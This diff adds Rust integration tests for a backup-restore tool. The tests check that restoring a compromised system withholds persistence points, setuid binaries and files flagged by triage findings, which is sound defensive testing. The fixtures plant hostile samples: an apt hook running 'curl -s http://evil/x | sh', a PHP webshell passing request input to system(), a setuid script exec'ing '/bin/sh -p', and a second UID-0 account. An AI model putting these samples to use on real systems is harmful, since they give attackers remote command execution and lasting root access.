@@ -380,3 +380,517 @@ fn a_dry_run_refuses_what_the_real_run_refuses_and_mounts_nothing_writable() {
     let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
     assert!(!mounts.contains("restore-source-"), "unmounted afterwards");
 }
+
+// Screening a backup of a compromised root (issue 18): the stricter policy and triage findings.
+
+fn put(root: &Path, rel: &str, data: &[u8], mode: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    let p = root.join(rel);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(&p, data).unwrap();
+    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+fn manifest(dir: &Path) -> serde_json::Value {
+    serde_json::from_slice(&std::fs::read(dir.join("restore-manifest.json")).unwrap()).unwrap()
+}
+
+fn record(m: &serde_json::Value, path: &str) -> serde_json::Value {
+    m["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == path)
+        .cloned()
+        .unwrap_or_else(|| panic!("{path} not in the manifest: {m:#}"))
+}
+
+/// `tar -C DIR -cf OUT .` (GNU tar): the same backup as an archive, read as a stream.
+fn tar_of(dir: &Path, out: &Path) {
+    run(Command::new("tar")
+        .arg("-C")
+        .arg(dir)
+        .arg("-cf")
+        .arg(out)
+        .arg("."));
+}
+
+const OLD_PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n";
+const NEW_PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n_apt:x:42:65534::/nonexistent:/usr/sbin/nologin\n";
+
+/// Every persistence point the policy holds, one file each, as a compromised root would hold them.
+const HELD: &[(&str, &str)] = &[
+    ("etc/shadow", "account database"),
+    ("etc/group", "account database"),
+    ("etc/gshadow", "account database"),
+    ("etc/passwd-", "account database"),
+    ("etc/subuid", "account database"),
+    ("etc/sudoers", "sudoers"),
+    ("etc/sudoers.d/90-persist", "sudoers"),
+    ("etc/pam.d/common-auth", "PAM configuration"),
+    ("etc/security/pam_env.conf", "PAM configuration"),
+    ("lib/x86_64-linux-gnu/security/pam_unix2.so", "PAM module"),
+    ("etc/ssh/sshd_config", "sshd configuration"),
+    ("etc/ssh/sshd_config.d/99-root.conf", "sshd configuration"),
+    ("etc/ld.so.conf.d/evil.conf", "dynamic linker configuration"),
+    ("etc/ld.so.preload", "ld.so.preload"),
+    ("etc/udev/rules.d/99-run.rules", "udev rule"),
+    ("etc/modules-load.d/rk.conf", "kernel module loading"),
+    ("etc/modprobe.d/rk.conf", "kernel module loading"),
+    ("etc/apt/apt.conf.d/99update-hook", "apt/dpkg configuration"),
+    ("etc/dpkg/dpkg.cfg.d/hook", "apt/dpkg configuration"),
+    ("etc/profile.d/zz-persist.sh", "shell startup file"),
+    ("etc/bash.bashrc", "shell startup file"),
+    ("etc/xdg/autostart/update.desktop", "XDG autostart entry"),
+    (
+        "home/alice/.config/autostart/sync.desktop",
+        "XDG autostart entry",
+    ),
+    ("etc/cron.d/backdoor", "cron or at job"),
+    ("etc/systemd/system/dbus-helper.service", "systemd unit"),
+    ("root/.ssh/authorized_keys", "ssh authorized_keys"),
+];
+
+fn compromised_backup(b: &Path) {
+    put(b, "etc/passwd", OLD_PASSWD, 0o644);
+    for (rel, _) in HELD {
+        let body: &[u8] = match *rel {
+            "etc/apt/apt.conf.d/99update-hook" => {
+                b"APT::Update::Pre-Invoke { \"curl -s http://evil/x | sh\"; };\n"
+            }
+            "etc/udev/rules.d/99-run.rules" => b"ACTION==\"add\", RUN+=\"/usr/local/bin/x\"\n",
+            "etc/group" => b"root:x:0:\nsudo:x:27:alice,toor\n",
+            _ => b"planted\n",
+        };
+        put(b, rel, body, 0o644);
+    }
+    put(
+        b,
+        "var/www/html/uploads/avatar.php",
+        b"<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>",
+        0o644,
+    );
+    put(
+        b,
+        "var/www/html/index.php",
+        b"<?php echo 'Hello, ' . htmlspecialchars($_GET['name']); ?>",
+        0o644,
+    );
+    put(b, "srv/data/report.txt", b"quarterly numbers\n", 0o640);
+}
+
+#[test]
+fn a_compromised_root_backup_comes_back_without_its_persistence() {
+    let d = tempfile::tempdir().unwrap();
+    let b = d.path().join("backup");
+    compromised_backup(&b);
+    let archive = d.path().join("backup.tar");
+    tar_of(&b, &archive);
+    // The same backup as a directory (files re-read by path) and as an archive (a stream read once).
+    for (name, source) in [("dir", &b), ("tar", &archive)] {
+        let dst = d.path().join(format!("newroot-{name}"));
+        put(&dst, "etc/passwd", NEW_PASSWD, 0o644);
+        let report = d.path().join(format!("report-{name}"));
+        let o = rescue(&["restore", s(source), s(&dst), "--report-dir", s(&report)]);
+        let out = text(&o);
+        assert!(o.status.success(), "{name}: {out}");
+
+        // Only the data and the harmless page came back; the new system's passwd is untouched.
+        assert_eq!(
+            std::fs::read(dst.join("srv/data/report.txt")).unwrap(),
+            b"quarterly numbers\n"
+        );
+        assert!(dst.join("var/www/html/index.php").exists(), "{name}: {out}");
+        assert_eq!(
+            std::fs::read(dst.join("etc/passwd")).unwrap(),
+            NEW_PASSWD,
+            "{name}"
+        );
+        for (rel, kind) in HELD {
+            assert!(!dst.join(rel).exists(), "{name}: {rel} was written");
+            assert!(
+                out.contains(&format!("HELD      {rel}: {kind}")),
+                "{name}: {rel} held as {kind}: {out}"
+            );
+        }
+        assert!(
+            !dst.join("var/www/html/uploads/avatar.php").exists(),
+            "{name}: the webshell"
+        );
+        assert!(
+            out.contains("HELD      var/www/html/uploads/avatar.php: server-side script that runs commands (PHP system() of $_request)"),
+            "{name}: {out}"
+        );
+
+        // passwd: held, compared with the new system's, the second uid-0 account named.
+        let m = manifest(&report);
+        let p = record(&m, "etc/passwd");
+        assert_eq!(p["action"], "held", "{name}: {p}");
+        let reason = p["reason"].as_str().unwrap();
+        assert!(
+            reason.contains("never restored wholesale")
+                && reason.contains("2 accounts added (alice, toor), 1 removed (_apt), 0 changed")
+                && reason.contains("toor: UID 0: a second superuser"),
+            "{name}: {reason}"
+        );
+        assert_eq!(p["diff"], "restore-held/etc/passwd.diff");
+        let diff = std::fs::read_to_string(report.join("restore-held/etc/passwd.diff")).unwrap();
+        // Every uid-0 account other than root that awk sees in the backup's passwd is flagged.
+        let awk = Command::new("awk")
+            .args(["-F:", "$3 == 0 && $1 != \"root\" { print $1 }"])
+            .arg(b.join("etc/passwd"))
+            .output()
+            .unwrap();
+        let uid0: Vec<String> = String::from_utf8_lossy(&awk.stdout)
+            .lines()
+            .map(str::to_owned)
+            .collect();
+        assert_eq!(uid0, ["toor"]);
+        for account in &uid0 {
+            assert!(
+                diff.lines()
+                    .any(|l| l.starts_with(&format!("+ {account}:")) && l.contains("!! UID 0")),
+                "{name}: {diff}"
+            );
+        }
+        assert!(diff.contains("- _apt:"), "{diff}");
+        assert!(
+            out.contains("account database compared with the new system's: "),
+            "{out}"
+        );
+        let group = std::fs::read_to_string(report.join("restore-held/etc/group.diff")).unwrap();
+        assert!(
+            group.contains("privileged group sudo gains alice, toor"),
+            "{group}"
+        );
+        assert!(
+            m["review"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|r| r == "var/www/html/uploads/avatar.php")
+        );
+
+        // The operator releases one held file by listing it exactly.
+        let o = rescue(&[
+            "restore",
+            s(source),
+            s(&dst),
+            "--report-dir",
+            s(&report),
+            "--include",
+            "/etc/sudoers.d/90-persist",
+        ]);
+        assert!(o.status.success(), "{}", text(&o));
+        assert_eq!(
+            std::fs::read(dst.join("etc/sudoers.d/90-persist")).unwrap(),
+            b"planted\n"
+        );
+        assert!(!dst.join("etc/sudoers").exists());
+    }
+}
+
+#[test]
+fn a_setuid_binary_needs_its_exact_path_listed_even_with_allow_executables() {
+    let d = tempfile::tempdir().unwrap();
+    let b = d.path().join("backup");
+    put(
+        &b,
+        "usr/local/bin/helper",
+        b"#!/bin/sh\nexec /bin/sh -p\n",
+        0o4755,
+    );
+    put(&b, "usr/local/bin/report", b"#!/bin/sh\necho ok\n", 0o2755);
+    put(&b, "usr/local/bin/plain", b"#!/bin/sh\necho plain\n", 0o755);
+    let dst = d.path().join("newroot");
+    std::fs::create_dir_all(&dst).unwrap();
+    let report = d.path().join("report");
+    let mode = |rel: &str| {
+        let o = Command::new("stat")
+            .args(["-c", "%a"])
+            .arg(dst.join(rel))
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&o.stdout).trim().to_owned()
+    };
+
+    let o = rescue(&[
+        "restore",
+        s(&b),
+        s(&dst),
+        "--allow-executables",
+        "--report-dir",
+        s(&report),
+    ]);
+    let out = text(&o);
+    assert!(o.status.success(), "{out}");
+    assert!(
+        out.contains("REFUSED   usr/local/bin/helper: setuid file: refused even with --allow-executables unless listed exactly: --include /usr/local/bin/helper"),
+        "{out}"
+    );
+    assert!(
+        out.contains("REFUSED   usr/local/bin/report: setgid file"),
+        "{out}"
+    );
+    assert!(
+        !dst.join("usr/local/bin/helper").exists() && !dst.join("usr/local/bin/report").exists()
+    );
+    assert_eq!(mode("usr/local/bin/plain"), "755");
+
+    // Listed exactly: it comes back, and with its bits (stat, coreutils).
+    let o = rescue(&[
+        "restore",
+        s(&b),
+        s(&dst),
+        "--allow-executables",
+        "--include",
+        "/usr/local/bin/helper",
+        "--report-dir",
+        s(&report),
+    ]);
+    assert!(o.status.success(), "{}", text(&o));
+    assert_eq!(mode("usr/local/bin/helper"), "4755");
+    assert!(
+        !dst.join("usr/local/bin/report").exists(),
+        "only the listed path"
+    );
+    // Listed without --allow-executables: still refused.
+    let dst2 = d.path().join("newroot2");
+    std::fs::create_dir_all(&dst2).unwrap();
+    let o = rescue(&[
+        "restore",
+        s(&b),
+        s(&dst2),
+        "--include",
+        "/usr/local/bin/helper",
+        "--report-dir",
+        s(&report),
+    ]);
+    assert!(
+        text(&o).contains("restore it with --allow-executables --include /usr/local/bin/helper"),
+        "{}",
+        text(&o)
+    );
+    assert!(!dst2.join("usr/local/bin/helper").exists());
+}
+
+fn findings_json(findings: &[(&str, &str, &str, &str)]) -> String {
+    let list: Vec<serde_json::Value> = findings
+        .iter()
+        .map(|(id, severity, path, why)| {
+            serde_json::json!({"id": id, "severity": severity, "category": "test", "path": path,
+                "why": why, "evidence": {"sha256": "00", "mode": "0644", "owner": "root"}})
+        })
+        .collect();
+    serde_json::json!({"schema": "rescue.triage/1", "source": "/dev/sda2",
+        "generated_at": "2026-12-05T14:00:00Z", "findings": list})
+    .to_string()
+}
+
+#[test]
+fn files_named_by_triage_findings_are_refused_or_held_with_the_finding_as_the_reason() {
+    let d = tempfile::tempdir().unwrap();
+    let b = d.path().join("backup");
+    put(&b, "srv/app/worker.txt", b"looks harmless\n", 0o644);
+    put(
+        &b,
+        "srv/app/notes.txt",
+        b"changed in the attack window\n",
+        0o644,
+    );
+    put(
+        &b,
+        "srv/app/.cache/x/payload.txt",
+        b"in a hidden directory\n",
+        0o644,
+    );
+    put(&b, "srv/app/readme.txt", b"fine\n", 0o644);
+    let f1 = d.path().join("findings.json");
+    std::fs::write(
+        &f1,
+        findings_json(&[
+            (
+                "FS-0001",
+                "critical",
+                "/srv/app/worker.txt",
+                "sha256 matches a known implant",
+            ),
+            (
+                "FS-0002",
+                "medium",
+                "/srv/app/notes.txt",
+                "changed since --since",
+            ),
+            ("FS-0009", "info", "/opt/elsewhere", "not in this backup"),
+        ]),
+    )
+    .unwrap();
+    let f2 = d.path().join("findings-2.json");
+    std::fs::write(
+        &f2,
+        findings_json(&[(
+            "FS-0003",
+            "high",
+            "/srv/app/.cache/",
+            "hidden directory in a system path",
+        )]),
+    )
+    .unwrap();
+
+    let dst = d.path().join("newroot");
+    std::fs::create_dir_all(&dst).unwrap();
+    let report = d.path().join("report");
+    let o = rescue(&[
+        "restore",
+        s(&b),
+        s(&dst),
+        "--findings",
+        s(&f1),
+        "--findings",
+        s(&f2),
+        "--report-dir",
+        s(&report),
+    ]);
+    let out = text(&o);
+    assert!(o.status.success(), "{out}");
+    assert!(
+        out.contains("REFUSED   srv/app/worker.txt: finding FS-0001 (critical, test): sha256 matches a known implant"),
+        "{out}"
+    );
+    assert!(
+        out.contains("HELD      srv/app/notes.txt: finding FS-0002 (medium, test)"),
+        "{out}"
+    );
+    assert!(
+        out.contains("REFUSED   srv/app/.cache/x/payload.txt: finding FS-0003 (high"),
+        "{out}"
+    );
+    assert!(
+        out.contains("findings: 3 of 4 findings naming a path name a file of this backup"),
+        "{out}"
+    );
+    let m = manifest(&report);
+    for (path, action, id) in [
+        ("srv/app/worker.txt", "refused", "FS-0001"),
+        ("srv/app/notes.txt", "held", "FS-0002"),
+        ("srv/app/.cache/x/payload.txt", "refused", "FS-0003"),
+    ] {
+        let r = record(&m, path);
+        assert_eq!(r["action"], action, "{r}");
+        assert_eq!(r["findings"], serde_json::json!([id]), "{r}");
+        assert!(r["reason"].as_str().unwrap().contains(id), "{r}");
+        assert!(!dst.join(path).exists(), "{path}");
+    }
+    assert_eq!(m["findings"]["unmatched"], serde_json::json!(["FS-0009"]));
+    assert_eq!(
+        std::fs::read(dst.join("srv/app/readme.txt")).unwrap(),
+        b"fine\n"
+    );
+
+    // A backup of /srv: its root is /srv of the examined system.
+    let srv = d.path().join("srv.tar");
+    tar_of(&b.join("srv"), &srv);
+    let dst2 = d.path().join("newsrv");
+    std::fs::create_dir_all(&dst2).unwrap();
+    let o = rescue(&[
+        "restore",
+        s(&srv),
+        s(&dst2),
+        "--findings",
+        s(&f1),
+        "--source-root",
+        "/srv",
+        "--report-dir",
+        s(&report),
+    ]);
+    let out = text(&o);
+    assert!(o.status.success(), "{out}");
+    assert!(
+        out.contains("REFUSED   app/worker.txt: finding FS-0001"),
+        "{out}"
+    );
+    assert!(
+        out.contains("HELD      app/notes.txt: finding FS-0002"),
+        "{out}"
+    );
+    assert!(dst2.join("app/readme.txt").exists() && !dst2.join("app/worker.txt").exists());
+    // Without --source-root the same findings still hold the files, saying the match is a guess.
+    let dst3 = d.path().join("newsrv3");
+    std::fs::create_dir_all(&dst3).unwrap();
+    let o = rescue(&[
+        "restore",
+        s(&srv),
+        s(&dst3),
+        "--findings",
+        s(&f1),
+        "--report-dir",
+        s(&report),
+    ]);
+    let out = text(&o);
+    assert!(o.status.success(), "{out}");
+    assert!(
+        out.contains("HELD      app/worker.txt: finding FS-0001")
+            && out.contains("which this file may be"),
+        "{out}"
+    );
+    assert!(!dst3.join("app/worker.txt").exists());
+    assert_eq!(
+        record(&manifest(&report), "app/worker.txt")["findings"],
+        serde_json::json!(["FS-0001"])
+    );
+}
+
+#[test]
+fn a_findings_file_that_is_not_triage_output_stops_the_restore_before_anything_is_written() {
+    let d = tempfile::tempdir().unwrap();
+    let b = d.path().join("backup");
+    put(&b, "srv/a.txt", b"a\n", 0o644);
+    let dst = d.path().join("newroot");
+    std::fs::create_dir_all(&dst).unwrap();
+    for (name, body, says) in [
+        (
+            "broken.json",
+            "{\"schema\":\"rescue.triage/1\",\"findings\":[".to_owned(),
+            "is not JSON",
+        ),
+        (
+            "manifest.json",
+            "{\"schema\":\"rescue.acquire/1\",\"findings\":[]}".to_owned(),
+            "has schema \"rescue.acquire/1\", not rescue.triage/1",
+        ),
+        (
+            "relative.json",
+            findings_json(&[("FS-1", "high", "srv/a.txt", "x")]),
+            "finding FS-1 names \"srv/a.txt\", which is not an absolute path",
+        ),
+        (
+            "severity.json",
+            findings_json(&[("FS-2", "severe", "/srv/a.txt", "x")]),
+            "does not hold a valid rescue.triage/1 findings list",
+        ),
+    ] {
+        let f = d.path().join(name);
+        std::fs::write(&f, body).unwrap();
+        let o = rescue(&["restore", s(&b), s(&dst), "--findings", s(&f)]);
+        assert_eq!(o.status.code(), Some(1), "{name}: {}", text(&o));
+        assert!(
+            text(&o).contains(s(&f)) && text(&o).contains(says),
+            "{name}: {}",
+            text(&o)
+        );
+        assert!(!dst.join("srv").exists(), "{name}: nothing restored");
+    }
+    let o = rescue(&[
+        "restore",
+        s(&b),
+        s(&dst),
+        "--findings",
+        s(&d.path().join("absent.json")),
+    ]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(
+        text(&o).contains("reading the findings file"),
+        "{}",
+        text(&o)
+    );
+}
